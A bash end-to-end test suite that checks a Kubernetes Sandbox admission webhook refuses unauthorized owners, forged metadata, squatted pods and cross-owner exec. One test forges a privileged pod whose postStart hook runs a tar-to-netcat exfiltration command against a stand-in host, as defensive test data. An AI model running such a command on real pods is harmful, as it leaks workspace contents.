#!/usr/bin/env bash
# End-to-end: the admission half (contract sections 2a, 4 and 6) on a real
# control plane, as real identities: alice and bob (Sandboxes, and `use` on
# their own workspace only), mallory (pods only) and the agent ServiceAccount
# (every owner). The controller serves the webhook on 127.0.0.1 and the API
# server calls it through the product's own webhook configurations.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib_admission.sh"

IMG=registry.local/agent:1.0
E2E_ADMISSION=1

setup() {
  cluster_up
  grant_controller_rbac
  new_namespace team-a
  new_namespace team-b
  webhook_certs
  WEBHOOK_PORT=$(free_port)
  METRICS_PORT=$(free_port)
  controller_start main --metrics-bind-address "127.0.0.1:$METRICS_PORT" --webhook-bind-address "127.0.0.1:$WEBHOOK_PORT" --webhook-cert-dir "$WEBHOOK_CERT_DIR" \
    --webhook-client-ca-file "$E2E_DIR/pki/webhook-client-ca.crt"
  MAIN_CTL=$CTL_PID
  install_admission "$WEBHOOK_PORT" sandbox-controller || { say "admission not installed"; exit 1; }
  ALICE=$(user_kubeconfig alice); BOB=$(user_kubeconfig bob); MALLORY=$(user_kubeconfig mallory)
  AGENT=$(sa_kubeconfig team-a agent)
  kubectl apply -f - >/dev/null <<YAML
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: sandbox-editor, namespace: team-a}
rules:
  - {apiGroups: [sandbox.dev], resources: [sandboxes], verbs: [get, list, watch, create, update, patch, delete]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: sandbox-editors, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: sandbox-editor}
subjects:
  - {kind: User, name: alice}
  - {kind: User, name: bob}
  - {kind: ServiceAccount, name: agent, namespace: team-a}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: workspace-any, namespace: team-a}
rules:
  - {apiGroups: [sandbox.dev], resources: [workspaces], verbs: [use]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: workspace-agent, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: workspace-any}
subjects: [{kind: ServiceAccount, name: agent, namespace: team-a}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: pod-editor, namespace: team-a}
rules:
  - {apiGroups: [""], resources: [pods], verbs: [get, list, create, delete, update, patch]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: pod-editor-mallory, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: pod-editor}
subjects: [{kind: User, name: mallory}]
YAML
  grant_owner team-a alice alice
  grant_owner team-a bob bob
}

as() { local kc=$1; shift; KUBECONFIG=$kc kubectl "$@"; }
pod_of() { jp "$1" sandbox "$2" '{.status.podName}'; }
bound_reason() { jp "$1" sandbox "$2" '{.status.conditions[?(@.type=="Bound")].reason}'; }
exists() { kubectl get -n "$1" sandbox "$2" >/dev/null 2>&1; }

# sandbox_as KUBECONFIG NS NAME IMAGE KEY OWNER: creates a Sandbox as someone.
sandbox_as() {
  local kc=$1; shift
  KUBECONFIG=$kc sandbox "$@"
}

# http_create KUBECONFIG-USER NS JSON: POSTs a Sandbox as a client-cert user,
# prints "<http code> <body>".
http_create() {
  local u=$1 ns=$2 body=$3 server
  server=$(kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}')
  curl -s -o "$E2E_DIR/http.out" -w '%{http_code}' --cacert "$E2E_DIR/pki/ca.crt" \
    --cert "$E2E_DIR/pki/$u.crt" --key "$E2E_DIR/pki/$u.key" -H 'Content-Type: application/json' \
    -X POST "$server/apis/sandbox.dev/v1alpha1/namespaces/$ns/sandboxes" -d "$body"
  echo " $(cat "$E2E_DIR/http.out")"
}

mounts_of() { # subPaths of the pod's mounts, sorted
  kubectl get pod -n "$1" "$2" -o jsonpath='{range .spec.containers[0].volumeMounts[*]}{.subPath}{"\n"}{end}' | sort | tr '\n' ' '
}

test_owner_is_authorized_by_identity() {
  local out
  out=$(sandbox_as "$BOB" team-a bob-for-alice $IMG task-1 alice) && fail "bob's Sandbox for alice was accepted"
  expect_match "$out" 'alice' "refusal names the owner"
  expect_match "$out" '"use" on workspaces.sandbox.dev' "refusal names the missing permission"
  exists team-a bob-for-alice && fail "bob's refused Sandbox was stored"
  local code
  code=$(http_create bob team-a '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"bob-http"},"spec":{"image":"x","workspaceOwner":"alice"}}')
  expect_eq "${code%% *}" 403 "HTTP status of bob's create for alice"
  sandbox_as "$ALICE" team-a alice-1 $IMG task-1 alice >/dev/null || fail "alice for alice refused"
  sandbox_as "$AGENT" team-a agent-alice $IMG task-2 alice >/dev/null || fail "agent for alice refused"
  sandbox_as "$AGENT" team-a agent-bob $IMG task-2 bob >/dev/null || fail "agent for bob refused"
  for s in alice-1 agent-alice agent-bob; do wait_for 30 bound team-a $s || fail "$s not bound"; done
  expect_eq "$(kubectl get sbx -n team-a alice-1 -o jsonpath='{.metadata.annotations.sandbox\.dev/requested-by}')" alice \
    "requester recorded"
  expect_eq "$(kubectl get sbx -n team-a agent-bob -o jsonpath='{.metadata.annotations.sandbox\.dev/requested-by}')" \
    system:serviceaccount:team-a:agent "agent recorded"
  expect_eq "$(mounts_of team-a "$(pod_of team-a agent-alice)")" "alice/claude alice/codex alice/gemini alice/workspace " "agent-alice mounts"
  expect_eq "$(mounts_of team-a "$(pod_of team-a agent-bob)")" "bob/claude bob/codex bob/gemini bob/workspace " "agent-bob mounts"
  # bob may use his own workspace
  sandbox_as "$BOB" team-a bob-1 $IMG task-1 bob >/dev/null || fail "bob for bob refused"
  wait_for 30 bound team-a bob-1 || fail "bob-1 not bound"
}

# The webhook's SubjectAccessReviews asked of the API server so far.
reviews_asked() {
  curl -sf "http://127.0.0.1:$METRICS_PORT/metrics" |
    awk '/^sandbox_admission_access_reviews_total\{/ && /source="asked"/ { n += $NF } END { printf "%d", n }'
}

# main_with [ARGS...]: the main controller again, as setup started it, with ARGS.
main_with() {
  controller_stop "$MAIN_CTL"
  controller_start main --metrics-bind-address "127.0.0.1:$METRICS_PORT" --webhook-bind-address "127.0.0.1:$WEBHOOK_PORT" --webhook-cert-dir "$WEBHOOK_CERT_DIR" \
    --webhook-client-ca-file "$E2E_DIR/pki/webhook-client-ca.crt" "$@"
  MAIN_CTL=$CTL_PID
  wait_for 60 bash -c "KUBECONFIG=$ALICE kubectl create --dry-run=server -f - >/dev/null 2>&1 <<<'{\"apiVersion\":\"sandbox.dev/v1alpha1\",\"kind\":\"Sandbox\",\"metadata\":{\"name\":\"probe\",\"namespace\":\"team-a\"},\"spec\":{\"image\":\"x\",\"workspaceOwner\":\"alice\"}}'" ||
    fail "the webhook is not back"
}

# An identity granted `use` on every workspace of a namespace (no
# resourceNames: an agent acting for many owners) is asked about each owner
# by name (contract 2a: an authorizer may refuse one name); with
# admission.askEveryNameFirst one review covers all of them. A grant by name
# still holds only that name.
test_agent_one_review_for_every_owner() {
  local before after i out
  before=$(reviews_asked)
  for i in 1 2 3 4 5 6; do
    sandbox_as "$AGENT" team-a "agent-many-$i" $IMG "many-$i" "owner-$i" >/dev/null || fail "agent for owner-$i refused"
  done
  after=$(reviews_asked)
  [ $((after - before)) -ge 6 ] || fail "6 owners for one agent asked $((after - before)) SubjectAccessReviews, want one per owner by default"
  printf 'admission: {askEveryNameFirst: true}\n' >"$E2E_DIR/every-name-first.yaml"
  main_with --config "$E2E_DIR/every-name-first.yaml"
  before=$(reviews_asked)
  for i in 7 8 9 10 11 12; do
    sandbox_as "$AGENT" team-a "agent-many-$i" $IMG "many-$i" "owner-$i" >/dev/null || fail "agent for owner-$i refused"
  done
  after=$(reviews_asked)
  [ $((after - before)) -le 1 ] || fail "6 owners for one agent asked $((after - before)) SubjectAccessReviews with askEveryNameFirst, want at most 1"
  out=$(sandbox_as "$ALICE" team-a alice-for-owner-1 $IMG many-1 owner-1) && fail "alice's Sandbox for owner-1 was accepted"
  expect_match "$out" 'owner-1' "refusal names the owner"
  sandbox_as "$ALICE" team-a alice-2 $IMG task-2 alice >/dev/null || fail "alice for alice refused"
  main_with
  kubectl delete sandboxes -n team-a --ignore-not-found --timeout=60s alice-2 \
    $(for i in $(seq 1 12); do echo "agent-many-$i"; done) >/dev/null 2>&1 || fail "Sandboxes not deleted"
}

test_key_conflict_refused_with_422() {
  sandbox_as "$ALICE" team-a conflict-a $IMG task-43 alice >/dev/null || fail "first create"
  local r
  r=$(http_create alice team-a '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"conflict-b"},"spec":{"image":"other:2","idempotencyKey":"task-43","workspaceOwner":"alice"}}')
  expect_eq "${r%% *}" 422 "HTTP status of a key reused with another spec"
  expect_match "$r" 'held by Sandbox team-a/conflict-a' "422 names the holder"
  exists team-a conflict-b && fail "conflicting Sandbox stored"
  # the same spec shares the key
  sandbox_as "$ALICE" team-a conflict-c $IMG task-43 alice >/dev/null || fail "same intent refused"
  wait_for 30 bound team-a conflict-c || fail "conflict-c not bound"
  expect_eq "$(pod_of team-a conflict-c)" "$(pod_of team-a conflict-a)" "same intent, same pod"
}

test_reserved_metadata_on_sandboxes() {
  local out
  out=$(as "$ALICE" apply -f - 2>&1 <<YAML
apiVersion: sandbox.dev/v1alpha1
kind: Sandbox
metadata: {name: forged-authz, namespace: team-a, annotations: {sandbox.dev/owner-authorization: v1.1.n.0000}}
spec: {image: $IMG, workspaceOwner: alice}
YAML
) && fail "reserved annotation accepted"
  expect_match "$out" "reserved" "reserved annotation message"
  out=$(as "$ALICE" apply -f - 2>&1 <<YAML
apiVersion: sandbox.dev/v1alpha1
kind: Sandbox
metadata: {name: forged-label, namespace: team-a, labels: {sandbox.dev/scope-digest: 0123}}
spec: {image: $IMG}
YAML
) && fail "reserved label accepted"
  sandbox_as "$ALICE" team-a meta-1 $IMG - alice >/dev/null || fail "create meta-1"
  as "$ALICE" annotate sbx -n team-a meta-1 sandbox.dev/requested-by=bob --overwrite >/dev/null 2>&1 &&
    fail "reserved annotation changed"
  local rec
  rec=$(kubectl get sbx -n team-a meta-1 -o jsonpath='{.metadata.annotations.sandbox\.dev/owner-authorization}')
  expect_match "$rec" '^v3\.[0-9]+\.1\.[0-9a-f]{64}$' "record stamped (v3: with the identity, run 1)"
  expect_match "$(kubectl get sbx -n team-a meta-1 -o jsonpath='{.metadata.annotations.sandbox\.dev/authorized-identity}')" \
    '^\{.*"groups":\[.*"system:authenticated".*\],"username":"alice"\}$' "the creator's whole identity recorded"
  # removing a reserved entry (as a second server-side apply of the manifest does) puts it back
  as "$ALICE" annotate sbx -n team-a meta-1 sandbox.dev/owner-authorization- >/dev/null 2>&1
  expect_eq "$(kubectl get sbx -n team-a meta-1 -o jsonpath='{.metadata.annotations.sandbox\.dev/owner-authorization}')" \
    "$rec" "reserved annotation kept"
  printf '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"ssa-1","namespace":"team-a"},"spec":{"image":"%s","workspaceOwner":"alice"}}' "$IMG" >"$E2E_DIR/ssa.json"
  as "$ALICE" apply --server-side --field-manager=gitops -f "$E2E_DIR/ssa.json" >/dev/null 2>&1 || fail "server-side apply #1"
  as "$ALICE" apply --server-side --field-manager=gitops -f "$E2E_DIR/ssa.json" >/dev/null 2>&1 || fail "server-side apply #2"
  wait_for 30 bound team-a ssa-1 || fail "ssa-1 not bound"
  as "$ALICE" annotate sbx -n team-a meta-1 note=hello >/dev/null 2>&1 || fail "ordinary annotation refused"
  out=$(as "$ALICE" patch sbx -n team-a meta-1 --type merge -p '{"spec":{"image":"other"}}' 2>&1) &&
    fail "spec change accepted"
  expect_match "$out" "immutable" "spec change message"
}

phase() { jp "$1" sandbox "$2" '{.status.phase}'; }
phase_is() { [ "$(phase "$1" "$2")" = "$3" ]; }
ann_of() { jp team-a sandbox "$1" "{.metadata.annotations.sandbox\\.dev/$2}"; } # ann_of NAME KEY: team-a's sandbox.dev/KEY

# ssa_sandbox NAME LIFECYCLE-JSON: alice's server-side apply (field manager
# gitops) of Sandbox NAME in team-a, owner alice, key NAME, spec.lifecycle as
# given ("": none), no labels or annotations. Prints kubectl's output.
ssa_sandbox() {
  printf '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"%s","namespace":"team-a"},"spec":{"image":"%s","idempotencyKey":"%s","workspaceOwner":"alice"%s}}' \
    "$1" "$IMG" "$1" "${2:+,\"lifecycle\":$2}" >"$E2E_DIR/$1.json"
  as "$ALICE" apply --server-side --field-manager=gitops -f "$E2E_DIR/$1.json" 2>&1
}

# set_suspend HOW NAME true|false: alice sets NAME's spec.lifecycle.suspend,
# HOW "merge" by a merge patch (a resume's also sets metadata.annotations
# null), "ssa" by ssa_sandbox (whose manifest carries none).
set_suspend() {
  case $1 in
    merge)
      local ann=
      [ "$3" = false ] && ann='"metadata":{"annotations":null},'
      as "$ALICE" patch sbx -n team-a "$2" --type merge -p "{$ann\"spec\":{\"lifecycle\":{\"suspend\":$3}}}" 2>&1 ;;
    ssa) ssa_sandbox "$2" "{\"suspend\":$3}" ;;
  esac
}

# resume_unannotated HOW NAME: alice's Running Sandbox NAME suspended (its
# pod gone), then resumed by set_suspend HOW with no annotations in the
# request: admitted, Running again on the same pod name, the resumer
# recorded and the requester put back.
resume_unannotated() {
  local how=$1 name=$2 pod out
  wait_for 30 phase_is team-a "$name" Running || fail "$name not Running: $(phase team-a "$name")"
  pod=$(pod_of team-a "$name")
  out=$(set_suspend "$how" "$name" true) || fail "suspend $name ($how): $out"
  wait_for 20 phase_is team-a "$name" Suspended || fail "$name not Suspended: $(phase team-a "$name")"
  wait_for 30 pod_gone team-a "$pod" || fail "$name's pod $pod stays while it is suspended"
  out=$(set_suspend "$how" "$name" false) || fail "resume of $name without annotations ($how) refused: $out"
  wait_for 30 phase_is team-a "$name" Running || fail "$name not Running after the resume: $(phase team-a "$name")"
  expect_eq "$(pod_of team-a "$name")" "$pod" "$name resumed on the same pod name"
  expect_eq "$(ann_of "$name" resumed-by)" alice "$name's resumer recorded"
  expect_eq "$(ann_of "$name" requested-by)" alice "$name's requester put back"
}

# A resume whose request carries no annotations at all is admitted: a merge
# patch setting metadata.annotations null, and a server-side apply of a
# manifest without any (its field manager, having created the Sandbox, owns
# the webhook's stamps, so the apply drops them all). The resume's stamps and
# the reserved entries put back were once two adds of the whole annotations
# map, the second replacing the first, and validation refused the resume for
# want of its record.
test_resume_without_annotations() {
  sandbox_as "$ALICE" team-a res-1 $IMG res-1 alice >/dev/null || fail "create res-1"
  ssa_sandbox res-2 "" >/dev/null || fail "create res-2 (server-side apply)"
  resume_unannotated merge res-1
  resume_unannotated ssa res-2
  kubectl delete sandboxes -n team-a --ignore-not-found --timeout=60s res-1 res-2 >/dev/null 2>&1 ||
    fail "res-1 and res-2 not deleted"
}

test_pods_reserved_to_the_controller() {
  sandbox_as "$ALICE" team-a victim $IMG task-v alice >/dev/null || fail "create victim"
  wait_for 30 bound team-a victim || fail "victim not bound"
  local pod digest out
  pod=$(pod_of team-a victim)
  # squatting the name of a Sandbox not created yet
  digest=$("$BUILD_DIR/sbx-digest" team-a x '{"image":"'$IMG'","idempotencyKey":"task-later","workspaceOwner":"alice"}' | cut -d' ' -f1)
  expect_match "$digest" '^[0-9a-f]{32}$' "digest tool"
  out=$(as "$MALLORY" run "sbx-$digest" -n team-a --image=busybox --restart=Never 2>&1) && fail "mallory created sbx-$digest"
  expect_match "$out" "reserved for sandbox-controller" "squat refusal"
  out=$(as "$MALLORY" run lookalike -n team-a --image=busybox --restart=Never \
    --labels=sandbox.dev/scope-digest=0123 2>&1) && fail "mallory created a pod with a reserved label"
  # mallory may patch her own pods but not the spec of a sandbox pod
  as "$MALLORY" patch pod -n team-a "$pod" --type merge -p '{"spec":{"containers":[{"name":"sandbox","image":"evil"}]}}' \
    >/dev/null 2>&1 && fail "mallory changed the image of $pod"
  as "$MALLORY" annotate pod -n team-a "$pod" sandbox.dev/seal=00 --overwrite >/dev/null 2>&1 &&
    fail "mallory changed the seal of $pod"
  # delete alice's pod and re-create it with its labels, annotations and seal, privileged
  kubectl get pod -n team-a "$pod" -o json >"$E2E_DIR/victim.json"
  as "$MALLORY" delete pod -n team-a "$pod" --wait=false >/dev/null || fail "mallory may delete pods"
  python3 - "$E2E_DIR/victim.json" >"$E2E_DIR/forged.json" <<'PY'
import json, sys
p = json.load(open(sys.argv[1]))
m = p['metadata']
p['metadata'] = {k: m[k] for k in ('name', 'namespace', 'labels', 'annotations') if k in m}
s = p['spec']
s.pop('nodeName', None)
s['hostNetwork'] = True
s['automountServiceAccountToken'] = True
c = s['containers'][0]
c['securityContext'] = {'privileged': True}
c['lifecycle'] = {'postStart': {'exec': {'command': ['sh', '-c', 'tar c /workspace | nc evil 80']}}}
p.pop('status', None)
print(json.dumps(p))
PY
  wait_for 30 pod_gone team-a "$pod"
  out=$(as "$MALLORY" create -f "$E2E_DIR/forged.json" 2>&1) && fail "mallory re-created $pod privileged"
  # Refused by the pod policy or, when the API server runs it first, by the
  # workspace policy (the forged pod mounts alice's claim): either, never admitted.
  expect_match "$out" "reserved for sandbox-controller|pods may not mount the workspace root" "forged pod refusal"
  # the policy concerns sandbox pods only: an ordinary pod is admitted, even when
  # part of the product's objects is gone (an unfinished uninstall)
  kubectl delete configmap -n sandbox-system sandbox-controller-identity --ignore-not-found >/dev/null 2>&1
  as "$MALLORY" run ordinary -n team-a --image=busybox --restart=Never >/dev/null 2>&1 ||
    fail "an ordinary pod was refused: the pod policy reaches beyond sandbox pods"
  # garbage collection still deletes the pods of deleted Sandboxes
  sandbox_as "$ALICE" team-a gc-me $IMG task-gc alice >/dev/null
  wait_for 30 bound team-a gc-me || fail "gc-me not bound"
  pod=$(pod_of team-a gc-me)
  as "$ALICE" delete sbx -n team-a gc-me >/dev/null
  wait_for 90 pod_gone team-a "$pod" || fail "pod $pod of a deleted Sandbox not collected"
}
pod_gone() { ! kubectl get pod -n "$1" "$2" >/dev/null 2>&1; }

# The exec gate: pods/exec in the namespace is not enough to exec into
# another owner's sandbox; the refusal names the owner and the permission.
test_exec_gate() {
  kubectl apply -f - >/dev/null <<YAML
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: pod-exec, namespace: team-a}
rules:
  - {apiGroups: [""], resources: [pods], verbs: [get, list]}
  - {apiGroups: [""], resources: [pods/exec, pods/attach, pods/portforward], verbs: [create, get]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: pod-exec, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: pod-exec}
subjects: [{kind: User, name: alice}, {kind: User, name: bob}]
YAML
  sandbox_as "$ALICE" team-a exec-alice $IMG task-exec alice >/dev/null || fail "create exec-alice"
  wait_for 30 bound team-a exec-alice || fail "exec-alice not bound"
  local pod out
  pod=$(pod_of team-a exec-alice)
  out=$(as "$BOB" exec -n team-a "$pod" -- true 2>&1) && fail "bob exec'd into alice's sandbox"
  expect_match "$out" 'may not exec into sandbox pod' "bob's exec refused by the gate: $out"
  expect_match "$out" '"use" on workspaces.sandbox.dev "alice"' "the refusal names the owner and permission"
  out=$(as "$BOB" attach -n team-a "$pod" 2>&1 </dev/null)
  expect_match "$out" 'may not attach to sandbox pod' "bob's attach refused by the gate: $out"
  # alice passes the gate (the stream then goes to kwok's node, which may refuse it)
  out=$(as "$ALICE" exec -n team-a "$pod" -- true 2>&1)
  [[ "$out" == *"may not exec"* ]] && fail "alice refused by the gate: $out"
  # bob into his own sandbox passes too
  sandbox_as "$BOB" team-a exec-bob $IMG task-exec bob >/dev/null || fail "create exec-bob"
  wait_for 30 bound team-a exec-bob || fail "exec-bob not bound"
  out=$(as "$BOB" exec -n team-a "$(pod_of team-a exec-bob)" -- true 2>&1)
  [[ "$out" == *"may not exec"* ]] && fail "bob refused exec into his own sandbox: $out"
}

test_schema_limits() {
  local out big
  big=$(head -c 1048576 /dev/zero | tr '\0' 'a')
  printf '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"big-command","namespace":"team-a"},"spec":{"image":"x","command":["%s"]}}' "$big" >"$E2E_DIR/big.json"
  out=$(as "$ALICE" create -f "$E2E_DIR/big.json" 2>&1) && fail "1 MiB command accepted"
  expect_match "$out" "spec.command" "1 MiB command refusal names the field"
  python3 -c 'import json; print(json.dumps({"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"many-env","namespace":"team-a"},"spec":{"image":"x","env":[{"name":"V%d"%i,"value":"v"} for i in range(10000)]}}))' >"$E2E_DIR/env.json"
  out=$(as "$ALICE" create -f "$E2E_DIR/env.json" 2>&1) && fail "10,000 env entries accepted"
  expect_match "$out" "spec.env" "10,000 env refusal names the field"
  exists team-a big-command && fail "big-command stored"
  exists team-a many-env && fail "many-env stored"
}

# A burst of creates at once, more than the webhook's loops hold connections
# at their cap: every one is admitted. (A connection the API server had just
# written a review on was once closed to make room, and the create failed with
# "failed calling webhook ... EOF".)
test_burst_of_creates_all_admitted() {
  local server out
  server=$(kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}')
  out=$(python3 "$E2E_ROOT/e2e/burst.py" "$server" "$E2E_DIR/pki/ca.crt" "$E2E_DIR/pki/alice.crt" \
    "$E2E_DIR/pki/alice.key" team-a burst 160 alice 2>"$E2E_DIR/burst.err")
  expect_eq "$out" "201 160" "160 creates at once: all admitted (stderr: $(head -c 600 "$E2E_DIR/burst.err"))"
  kubectl delete sandboxes -n team-a --ignore-not-found --timeout=120s $(for i in $(seq 0 159); do echo "burst-$i"; done) \
    >/dev/null 2>&1 || fail "the burst's Sandboxes not deleted"
}

# With the webhook unreachable (failurePolicy Fail), deleting a Sandbox still
# completes: the finalizer removals of a deletion are not sent to it.
test_y_deletion_never_blocked_by_the_webhook() {
  as "$ALICE" apply -f - >/dev/null <<YAML || fail "create fin-1"
apiVersion: sandbox.dev/v1alpha1
kind: Sandbox
metadata: {name: fin-1, namespace: team-a, finalizers: [example.com/hold]}
spec: {image: $IMG, workspaceOwner: alice}
YAML
  controller_stop "$MAIN_CTL"
  as "$ALICE" delete sbx -n team-a fin-1 --wait=false >/dev/null || fail "delete fin-1"
  local out
  out=$(as "$ALICE" patch sbx -n team-a fin-1 --type json -p '[{"op":"remove","path":"/metadata/finalizers"}]' 2>&1) ||
    fail "finalizer removal blocked while the webhook is down: $out"
  wait_for 20 sh -c "! kubectl get sbx -n team-a fin-1" || fail "fin-1 not deleted"
  # ordinary updates do go to the webhook, and fail closed while it is down
  as "$ALICE" annotate sbx -n team-a alice-1 note=x --overwrite >/dev/null 2>&1 && fail "update passed a dead webhook"
  controller_start main --webhook-bind-address "127.0.0.1:$WEBHOOK_PORT" --webhook-cert-dir "$WEBHOOK_CERT_DIR" \
    --webhook-client-ca-file "$E2E_DIR/pki/webhook-client-ca.crt"
  MAIN_CTL=$CTL_PID
  wait_for 60 sh -c "KUBECONFIG=$ALICE kubectl annotate sbx -n team-a alice-1 note=y --overwrite" || fail "webhook not back"
}

# Last: deletes the admission objects.
test_zz_webhook_absent_never_mounts() {
  kubectl get sbx -n team-a alice-1 -o json >"$E2E_DIR/alice-1.json"
  uninstall_admission
  sleep 1
  # bob's Sandbox for alice is stored but never gets a pod
  sandbox_as "$BOB" team-a bob-absent $IMG task-9 alice >/dev/null || fail "create without admission"
  wait_for 30 has_reason team-a bob-absent OwnerNotAuthorized || fail "bob-absent: $(bound_reason team-a bob-absent)"
  expect_eq "$(pod_of team-a bob-absent)" "" "no pod for bob-absent"
  # alice's record copied onto bob's Sandboxes: another spec, and alice's exact spec under another name
  python3 - "$E2E_DIR/alice-1.json" "$IMG" >"$E2E_DIR/copies.yaml" <<'PY'
import json, sys
a = json.load(open(sys.argv[1]))
ann = {k: v for k, v in a['metadata']['annotations'].items() if k.startswith('sandbox.dev/')}
docs = []
for name, spec in (('bob-copy-other', dict(a['spec'], image='evil:1')), ('bob-copy-same', a['spec'])):
    docs.append({'apiVersion': 'sandbox.dev/v1alpha1', 'kind': 'Sandbox',
                 'metadata': {'name': name, 'namespace': 'team-a', 'annotations': ann}, 'spec': spec})
print('\n---\n'.join(json.dumps(d) for d in docs))
PY
  as "$BOB" apply -f "$E2E_DIR/copies.yaml" >/dev/null || fail "copies not stored"
  wait_for 30 has_reason team-a bob-copy-other OwnerNotAuthorized || fail "bob-copy-other: $(bound_reason team-a bob-copy-other)"
  wait_for 30 has_reason team-a bob-copy-same OwnerNotAuthorized || fail "bob-copy-same: $(bound_reason team-a bob-copy-same)"
  expect_eq "$(pod_of team-a bob-copy-other)" "" "no pod for a copied record on another spec"
  expect_eq "$(pod_of team-a bob-copy-same)" "" "no pod for a copied record under another name"
  kubectl get events -n team-a --field-selector involvedObject.name=bob-absent,reason=OwnerNotAuthorized \
    -o name | grep -q . || fail "no OwnerNotAuthorized event"
  # without owners nothing needs authorizing
  sandbox_as "$BOB" team-a bob-noowner $IMG task-9 - >/dev/null
  wait_for 30 bound team-a bob-noowner || fail "Sandbox without owner not bound without admission"
}

setup
e2e_main
